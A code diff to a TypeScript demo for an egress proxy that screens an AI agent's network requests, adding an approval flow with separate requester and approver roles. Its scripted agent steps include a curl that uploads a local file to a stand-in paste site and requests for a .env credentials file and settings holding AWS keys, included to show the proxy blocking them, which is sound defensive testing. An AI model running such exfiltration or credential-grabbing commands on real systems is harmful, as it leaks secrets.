@@ -1,9 +1,12 @@
 // `make demo`: a real sidecar (explicit-proxy mode, no root, no cluster) in front of a scripted
 // agent session against local upstreams that stand in for GitHub, npm, OpenAI and an exfil
 // site. Real clients (git, curl) make the requests; each line shows what the agent asked, what
-// sluice decided and why.
+// sluice decided and why. Held requests go through the approval round trip against an in-process
+// approvals backend (approvals-api.ts): the pod's creator cannot approve, a second person can,
+// and the held request is then released and answered.
 import { execFile } from 'node:child_process';
-import { mkdtempSync } from 'node:fs';
+import { randomUUID } from 'node:crypto';
+import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
@@ -12,8 +15,12 @@ import { startTestSidecar } from '../../../e2e/support/sidecar/test-sidecar.ts';
 import type { TestSidecar } from '../../../e2e/support/sidecar/test-sidecar.ts';
 import { createTestCa, echoHandler, startHttpsUpstream } from '../../../e2e/support/sidecar/upstreams.ts';
 import type { TestUpstream } from '../../../e2e/support/sidecar/upstreams.ts';
-import { HEADER_DECISION } from '../../../api/src/index.ts';
+import { ANNOTATION_CREATOR, ANNOTATION_STATUS, HEADER_DECISION } from '../../../api/src/index.ts';
+import type { Creator } from '../../../api/src/index.ts';
 import { runCli } from '../../../cli/src/main.ts';
+import { mintLeafCertificate } from '../tls/leaf-certificates.ts';
+import { DemoApprovalsApi } from './approvals-api.ts';
+import type { DemoPod, DemoUser } from './approvals-api.ts';
 
 const run = promisify(execFile);
 
@@ -25,7 +32,13 @@ interface Step {
   say: string;
   cmd: string;
   args: string[];
+  /** The policy holds it: what the second person does with the ApprovalRequest. */
+  hold?: { decide: 'approve' } | { decide: 'deny'; reason: string };
 }
+
+/** The person who created the agent pod (the webhook's creator stamp) and a second approver. */
+const ALICE: DemoUser = { username: 'alice@example.com', groups: ['sluice-approvers', 'developers'] };
+const BOB: DemoUser = { username: 'bob@example.com', groups: ['sluice-approvers'] };
 
 const tty = process.stdout.isTTY;
 const paint = (code: string, text: string) => (tty ? `\x1b[${code}m${text}\x1b[0m` : text);
@@ -37,8 +50,9 @@ function verdictLine(out: string, err: string): string {
   const decision = new RegExp(`^${HEADER_DECISION}: (.*)$`, 'mi').exec(out)?.[1]?.trim();
   const body = /\{"error":"([^"]+)","reason":"([^"]+)"/.exec(out);
   if (decision) {
-    const kind = decision.split(';')[0]!;
     const code = body?.[1] ?? /code=([\w.]+)/.exec(decision)?.[1] ?? '';
+    // A held request that was then denied (or expired) is answered with approval.*: the outcome is a refusal.
+    const kind = code.startsWith('approval.') ? 'deny' : decision.split(';')[0]!;
     const reason = body?.[2] ?? 'refused at CONNECT, before any request was sent';
     return `${paint(kind === 'hold' ? '33' : '31', kind.toUpperCase().padEnd(5))} ${code}: ${reason}`;
   }
@@ -68,8 +82,25 @@ export async function runProxySession(write: (s: string) => void): Promise<void>
   });
   upstreams.push(git, api);
   const spoolDir = join(mkdtempSync(join(tmpdir(), 'sluice-demo-audit-')), 'spool');
+  // The pod as the webhook left it: injected, stamped with its creator (alice), read by the sidecar
+  // from the downward API files and by the approvals backend as the API server stores it.
+  const creator: Creator = { username: ALICE.username, groups: ALICE.groups };
+  const pod: DemoPod = { namespace: 'agents', name: 'coder-0', uid: randomUUID(), serviceAccount: 'coder', creator };
+  const kube = mkdtempSync(join(tmpdir(), 'sluice-demo-kube-'));
+  const podInfoDir = join(kube, 'podinfo');
+  mkdirSync(podInfoDir);
+  writeFileSync(join(podInfoDir, 'labels'), `app=${JSON.stringify('coder')}\nsluice.io/injected=${JSON.stringify('true')}\n`);
+  writeFileSync(join(podInfoDir, 'annotations'), `${ANNOTATION_CREATOR}=${JSON.stringify(JSON.stringify(creator))}\n${ANNOTATION_STATUS}=${JSON.stringify('{"version":"demo"}')}\n`);
+  const approvalsCert = (await mintLeafCertificate(ca.ca, '127.0.0.1')).toString('pem');
+  const approvals = await new DemoApprovalsApi(pod, { cert: approvalsCert, key: ca.ca.leafKeyPem, caFile: ca.caFile }).start();
+  const kubeconfig = { alice: approvals.userKubeconfig(kube, ALICE), bob: approvals.userKubeconfig(kube, BOB) };
   const sidecar: TestSidecar = await startTestSidecar({
-    config: { audit: { spoolDir } },
+    config: {
+      audit: { spoolDir },
+      pod: { namespace: pod.namespace, name: pod.name, uid: pod.uid, serviceAccount: pod.serviceAccount },
+      podInfoDir,
+      approvals: { kubeconfig: approvals.sidecarKubeconfig(kube), maxWaitMs: 60_000 },
+    },
     resolve: {
       'github.com:443': git.dial,
       'registry.npmjs.org:443': api.dial,
@@ -97,35 +128,60 @@ export async function runProxySession(write: (s: string) => void): Promise<void>
     { say: 'install a dependency', ...pair(curl('https://registry.npmjs.org/express')) },
     { say: 'ask the model for help', ...pair(curl('https://api.openai.com/v1/chat/completions', '-H', 'content-type: application/json', '-d', '{"model":"gpt-5","messages":[{"role":"user","content":"fix the bug"}]}')) },
     { say: 'read the deployment settings (they contain AWS keys)', ...pair(curl('https://raw.githubusercontent.com/acme/app/main/deploy/settings.json')) },
-    { say: 'read a credentials file', ...pair(curl('https://raw.githubusercontent.com/acme/app/main/.env')) },
+    {
+      say: 'read a credentials file',
+      ...pair(curl('https://raw.githubusercontent.com/acme/app/main/.env')),
+      hold: { decide: 'deny', reason: 'credentials stay out of the agent' },
+    },
     { say: 'publish a package', ...pair(curl('-X', 'PUT', 'https://registry.npmjs.org/acme-app', '-d', '{}')) },
     { say: 'upload the source to a paste site', ...pair(curl('https://paste.example/upload', '--data-binary', '@/etc/os-release')) },
     { say: 'connect to an IP address', ...pair(curl('http://203.0.113.7/')) },
-    { say: 'push a commit', cmd: 'sh', args: ['-c', `cd ${join(work, 'app')} && echo fix >> README.md && git commit -qam fix && git push -q origin main`] },
+    { say: 'push a commit', cmd: 'sh', args: ['-c', `cd ${join(work, 'app')} && echo fix >> README.md && git commit -qam fix && git push -q origin main`], hold: { decide: 'approve' } },
   ];
   write(`sluice demo — sidecar session ${sidecar.sessionId.slice(0, 8)}, policy revision ${sidecar.engine.revision}\n`);
   write(`the agent talks through ${sidecar.proxyUrl}; upstreams are local stand-ins\n\n`);
   try {
+    const kubectl = async (who: keyof typeof kubeconfig, args: string[]) => {
+      const shown = args.map((a) => (/^[\w./:=-]+$/.test(a) ? a : `'${a}'`)).join(' ');
+      write(`  ${paint('1', `$ kubectl sluice ${shown}`)}   ${paint('2', `# as ${who === 'alice' ? `${ALICE.username}, who created the pod` : `${BOB.username}, an approver`}`)}\n`);
+      const lines: string[] = [];
+      await runCli([...args, '-n', pod.namespace, '--kubeconfig', kubeconfig[who]], { out: (t) => lines.push(t), err: (t) => lines.push(t) });
+      write(lines.join('').replace(/\n$/, '').replace(/^/gm, '    ') + '\n');
+    };
     for (const step of steps) {
-      let out = '';
-      let err = '';
-      try {
-        const r = await run(step.cmd, step.args, { env, encoding: 'utf8' });
-        out = r.stdout;
-        err = r.stderr;
-      } catch (e) {
-        const x = e as { stdout?: string; stderr?: string };
-        out = x.stdout ?? '';
-        err = x.stderr ?? String(e);
+      write(`${paint('1', `▶ ${step.say}`)}\n`);
+      // A held request waits in the sidecar for its ApprovalRequest to be decided.
+      const held = step.hold ? approvals.nextCreated(20_000) : undefined;
+      const running = run(step.cmd, step.args, { env, encoding: 'utf8' }).then(
+        (r) => ({ out: r.stdout, err: r.stderr }),
+        (e: Error & { stdout?: string; stderr?: string }) => ({ out: e.stdout ?? '', err: e.stderr ?? e.message }),
+      );
+      if (step.hold && held) {
+        const request = await Promise.race([held, running.then(() => undefined)]);
+        if (!request) {
+          held.catch(() => undefined);
+        } else {
+          const name = request.metadata.name ?? '';
+          write(`  ${paint('33', 'HOLD ')} ${request.spec.code}: ${request.spec.reason}\n        waiting for approval ${name}: ${request.spec.request.summary}\n`);
+          await kubectl('bob', ['approvals']);
+          if (step.hold.decide === 'approve') {
+            await kubectl('alice', ['approve', name]);
+            await kubectl('bob', ['approve', name]);
+          } else {
+            await kubectl('bob', ['deny', name, '--reason', step.hold.reason]);
+          }
+        }
       }
-      const line = step.cmd === 'curl' ? verdictLine(out, err) : err.includes('403') ? `${paint('33', 'HOLD ')} git reports: ${/.*(RPC failed|403).*/.exec(err)?.[0] ?? err.trim()}` : err ? `${paint('31', 'FAIL ')} ${err.trim()}` : `${paint('32', 'ALLOW')} ${step.say} succeeded`;
-      write(`${paint('1', `▶ ${step.say}`)}\n  ${line}\n`);
+      const { out, err } = await running;
+      const line = step.cmd === 'curl' ? verdictLine(out, err) : err.includes('403') ? `${paint('31', 'DENY ')} git reports: ${/.*(RPC failed|403).*/.exec(err)?.[0] ?? err.trim()}` : err ? `${paint('31', 'FAIL ')} ${err.trim()}` : `${paint('32', 'ALLOW')} ${step.say} succeeded`;
+      write(`  ${step.hold ? 'then: ' : ''}${line}\n`);
     }
     const metrics = await (await fetch(`${sidecar.adminUrl}/metrics`)).text();
     write('\nmetrics (sluice_requests_total):\n');
     for (const l of metrics.split('\n').filter((x) => x.startsWith('sluice_requests_total'))) write(`  ${l}\n`);
   } finally {
     await sidecar.stop();
+    await approvals.stop();
     for (const u of upstreams) await u.close();
   }
   // The session was recorded as a hash chain in the sidecar's spool; read it back like an auditor.
